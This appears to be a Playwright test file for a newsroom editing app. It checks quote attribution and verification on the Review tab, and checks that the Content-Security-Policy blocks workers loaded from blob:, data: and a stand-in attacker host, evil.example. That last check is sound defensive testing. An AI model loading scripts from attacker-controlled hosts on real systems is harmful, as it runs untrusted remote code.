import type { Page } from '@playwright/test';
import { paragraphs } from '../support/articles';
import { expect, test } from './harness';

const speakers = ['Mayor Maria Lopez', 'Councillor Dev Patel', 'Port Director Sam Okafor', 'Union Steward Lena Berg'];
const topics = ['the ferry budget', 'the night shift', 'the harbour wall', 'the pier lights', 'the fuel contract', 'the ticket prices'];

const wallQuote = 'The harbour wall has cracked in three places and nobody told the crews,';

/** A quote-heavy story: forty paragraphs, each with a quote, a speech verb and a named speaker. */
function quoteHeavyStory(): string[] {
  return Array.from({ length: 40 }, (_, index) => {
    if (index === 8) return `“${wallQuote}” Mayor Maria Lopez said on Tuesday.`;
    const speaker = speakers[index % speakers.length]!;
    const topic = topics[index % topics.length]!;
    return index % 2 === 0 ? `“We will not give up on ${topic} this year, not in week ${index + 1},” ${speaker} said on Tuesday.` : `“Nobody asked us about ${topic} in week ${index + 1},” said ${speaker}, who spoke after the vote.`;
  });
}

/** Records what would show a broken worker: console errors and Content-Security-Policy violations. */
async function watchForProblems(page: Page): Promise<() => Promise<string[]>> {
  const problems: string[] = [];
  page.on('console', (message) => {
    if (message.type() === 'error') problems.push(`console: ${message.text()}`);
  });
  page.on('pageerror', (error) => problems.push(`page: ${error.message}`));
  await page.addInitScript(() => {
    const seen: string[] = [];
    Object.defineProperty(globalThis, '__cspViolations', { value: seen });
    document.addEventListener('securitypolicyviolation', (event) => seen.push(`csp: ${event.violatedDirective} ${event.blockedURI}`));
  });
  return async () => [...problems, ...(await page.evaluate(() => (globalThis as unknown as { __cspViolations: string[] }).__cspViolations))];
}

test('typing into a quote-heavy story with the Review tab open updates the review from the analysis worker', async ({ app }) => {
  const { page } = app;
  const problems = await watchForProblems(page);
  const created = await app.main.api.createArticle({ headline: 'Harbour budget row' });
  await app.main.api.saveArticle({ article: { ...created, body: paragraphs(...quoteHeavyStory()) }, isExplicit: true });
  await app.main.api.updateSettings({ reviewerName: 'Sam Editor' });
  await page.reload();
  await page.getByRole('button', { name: /Harbour budget row/ }).click();
  await page.getByRole('tab', { name: 'Review' }).click();

  const lopez = page.getByRole('region', { name: 'Quotes by Maria Lopez' });
  await expect(lopez.getByRole('listitem')).toHaveCount(10);
  // The Review tab runs two workers: the attribution analysis and the house-style check.
  await expect
    .poll(() => page.workers().map((worker) => new URL(worker.url()).pathname).sort())
    .toEqual([expect.stringMatching(/^\/assets\/analysisWorker-[\w-]+\.js$/), expect.stringMatching(/^\/assets\/styleWorker-[\w-]+\.js$/)]);
  const body = page.getByRole('textbox', { name: 'Article body' });
  await expect(body.locator('.quote-mark')).toHaveCount(40);

  const verified = lopez.getByRole('listitem', { name: /harbour wall has cracked/ });
  await verified.getByRole('button', { name: 'Verify' }).click();
  await expect(verified.getByText('Verified', { exact: true })).toBeVisible();
  await expect(body.locator('.quote-verified')).toHaveText(wallQuote);

  // A new quote, typed through the keyboard (straight quotes become curly ones) at the end of the story.
  await lopez.getByRole('button', { name: /week 1,/ }).click();
  await expect(body).toBeFocused();
  await page.keyboard.press('Control+End');
  await page.keyboard.type(' "We will rebuild the pier before the winter storms," said Harbour Master Ana Ruiz.', { delay: 15 });
  const ruiz = page.getByRole('region', { name: 'Quotes by Ana Ruiz' });
  await expect(ruiz.getByRole('listitem', { name: /We will rebuild the pier before the winter storms,/ })).toBeVisible();
  await expect(ruiz.getByText('Harbour Master', { exact: true })).toBeVisible();
  await expect(body.locator('.quote-mark')).toHaveCount(41);
  await expect(body.locator('.quote-mark', { hasText: 'We will rebuild the pier' })).toHaveText('We will rebuild the pier before the winter storms,');

  // Editing the verified quote's words takes its verification away.
  await verified.getByRole('button', { name: /harbour wall has cracked/ }).click();
  await expect.poll(() => page.evaluate(() => window.getSelection()?.toString())).toBe(wallQuote);
  await page.keyboard.press('ArrowRight');
  await page.keyboard.press('ArrowLeft');
  await page.keyboard.type(' again');
  const edited = lopez.getByRole('listitem', { name: /nobody told the crews again,/ });
  await expect(edited.getByText('Changed since verified')).toBeVisible();
  await expect(page.getByRole('list', { name: 'Attribution findings' })).toContainText('edited after Sam Editor verified it');
  await expect(body.locator('.quote-verified')).toHaveCount(0);

  await expect(page.locator('[data-save-state="saved"]')).toBeVisible({ timeout: 5_000 });
  expect(await problems()).toEqual([]);
  expect(app.externalRequests).toEqual([]);
});

test('the page may start workers only from the app’s own files: blob:, data: and remote workers are refused', async ({ app }) => {
  const { page } = app;
  const problems = await watchForProblems(page);
  await page.reload();
  await expect(page.getByRole('button', { name: 'New' })).toBeVisible();
  const outcomes = await page.evaluate(async () => {
    const attempt = (url: string) =>
      new Promise<string>((resolve) => {
        try {
          const worker = new Worker(url, { type: 'module' });
          const end = (outcome: string) => {
            worker.terminate();
            resolve(outcome);
          };
          worker.onmessage = () => end('ran');
          worker.onerror = () => end('refused');
          setTimeout(() => end('no answer'), 3_000);
        } catch (error) {
          resolve(`refused (${error instanceof Error ? error.name : 'error'})`);
        }
      });
    const script = 'postMessage("ran")';
    return {
      blob: await attempt(URL.createObjectURL(new Blob([script], { type: 'text/javascript' }))),
      data: await attempt(`data:text/javascript,${encodeURIComponent(script)}`),
      remote: await attempt('https://evil.example/worker.js'),
    };
  });
  expect(outcomes).toEqual({ blob: expect.stringMatching(/^refused/), data: expect.stringMatching(/^refused/), remote: expect.stringMatching(/^refused/) });
  // blob: is same-origin, so only the policy stops it; the browser reports that as a worker-src violation.
  expect((await problems()).filter((problem) => problem.startsWith('csp:'))).toEqual(expect.arrayContaining([expect.stringMatching(/^csp: worker-src blob/)]));
  expect(app.externalRequests).toEqual([]);
});
